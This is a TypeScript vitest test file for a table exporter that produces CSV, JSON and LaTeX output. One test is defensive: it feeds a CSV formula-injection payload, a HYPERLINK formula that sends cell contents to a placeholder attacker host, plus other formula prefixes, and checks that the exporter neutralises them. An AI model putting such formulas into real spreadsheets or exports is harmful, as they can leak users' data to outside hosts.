import { expect, test } from 'vitest';
import { csvOf, jsonOf, latexOf } from './exported-table.ts';

const table = {
  name: 'x',
  caption: 'Sweep “a_b”, 3 runs, 95 % intervals',
  records: [
    { group: 'top"k, 1', l0: 8, mean: 0.1 + 0.2 },
    { group: 'b', l0: 8, mean: null },
  ],
  headings: ['Group', 'CE & L0'],
  rows: [
    ['top_k', '−0.3 ± 0.1'],
    ['b', '–'],
  ],
  numeric: [false, true],
};

test('CSV quotes what needs it and keeps every digit', () => {
  expect(csvOf(table)).toBe(
    '# Sweep “a_b”, 3 runs, 95 % intervals\ngroup,l0,mean\n"top""k, 1",8,0.30000000000000004\nb,8,\n',
  );
});

test('a spreadsheet that opens CSV runs no formula', () => {
  const token = '=HYPERLINK("http://evil.example/?"&A1)';
  const records = [{ token }, { token: '+cmd' }, { token: '-x' }, { token: '@SUM(A1)' }, { token: '\t=1' }];
  const lines = csvOf({ ...table, records })
    .split('\n')
    .slice(2, -1);
  expect(lines[0]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1)"`);
  for (const line of lines) expect(line).toMatch(/^"?'/);
  // Numbers are numbers, and other formats have the text itself.
  expect(csvOf({ ...table, records: [{ a: -1e-3, b: '-0.5', c: '+1e3' }] })).toContain(
    '\n-0.001,-0.5,+1e3\n',
  );
  expect(jsonOf({ ...table, records })).toContain('"+cmd"');
});

test('JSON has the caption and the records', () => {
  expect(JSON.parse(jsonOf(table))).toEqual({ caption: table.caption, rows: table.records });
});

test('LaTeX has booktabs rules and escapes its special characters', () => {
  const text = latexOf(table);
  expect(text).toContain('\\caption{Sweep “a\\_b”, 3 runs, 95 \\% intervals}');
  expect(text).toContain('\\begin{tabular}{lr}');
  expect(text).toMatch(
    /\\toprule\n {4}Group & CE \\& L0 \\\\\n {4}\\midrule\n {4}top\\_k & \$-\$0.3 \$\\pm\$ 0.1 \\\\/,
  );
  expect(latexOf({ ...table, headings: ['\\{^'] })).toContain('\\textbackslash{}\\{\\textasciicircum{}');
});
